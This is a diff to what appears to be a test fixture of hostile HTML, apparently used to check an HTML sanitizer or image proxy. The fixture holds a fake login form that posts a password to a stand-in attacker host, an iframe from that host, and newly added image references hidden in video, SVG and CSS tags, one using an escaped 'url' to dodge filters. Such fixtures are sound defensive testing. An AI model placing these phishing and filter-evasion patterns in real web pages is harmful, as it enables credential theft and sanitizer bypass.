@@ -121,6 +121,9 @@ HOSTILE_HTML = """<html><head>
 <form action="http://evil.example.invalid/login" method="post">
 <input name="password" type="password"><button>Verify</button></form>
 <iframe src="http://evil.example.invalid/frame"></iframe>
+<video src="/api/image?url=http%3A%2F%2Fimages.example.invalid%2Fvideo.png"></video>
+<svg width="10" height="10"><image href="/api/image?url=http%3A%2F%2Fimages.example.invalid%2Fsvg.png"/></svg>
+<p style="background: \\75rl(/api/image?url=http%3A%2F%2Fimages.example.invalid%2Fcss.png)">Thank you.</p>
 </body></html>
 """
 
